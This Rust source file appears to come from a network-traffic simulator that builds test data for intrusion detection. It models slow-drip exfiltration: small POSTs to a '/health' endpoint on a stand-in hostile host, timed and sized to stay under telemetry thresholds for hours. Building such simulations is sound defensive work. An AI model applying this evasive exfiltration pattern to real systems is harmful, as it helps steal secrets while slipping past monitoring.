//! A secret leaves in drops for hours, each no larger than a heartbeat (T1029, T1030).

use std::ops::Range;
use std::time::Duration;

use super::Attack;
use crate::simulate::programs::REQUESTS;
use crate::simulate::session::{Call, Session, Visit};
use crate::simulate::world::hostile;

/// A drop: less than any telemetry report.
const DROP_BYTES: Range<usize> = 100..400;

/// Between two drops.
const APART_MS: Range<u64> = 20_000..60_000;

/// For how long.
const LASTS: Duration = Duration::from_secs(2 * 3600 + 40 * 60);

pub(super) fn drip(session: &mut Session) -> Attack {
    let host = hostile("status.quiet-harbor.example", 77);
    let found_by = ["slow_drip", "new_destination"];
    let mut attack =
        Attack::begin("quiet-harbor.example", session.route.word(), session.now, &found_by);
    attack.addresses = vec![host.address(false)];
    let until = session.now + LASTS;
    while session.now < until {
        let size = session.dice.count(DROP_BYTES);
        let drop = [Call::post("/health", size, 2)];
        let visited = session.visit(&Visit::https(&host, &REQUESTS, &drop));
        attack.add(visited, size);
        session.wait(APART_MS);
    }
    attack
}
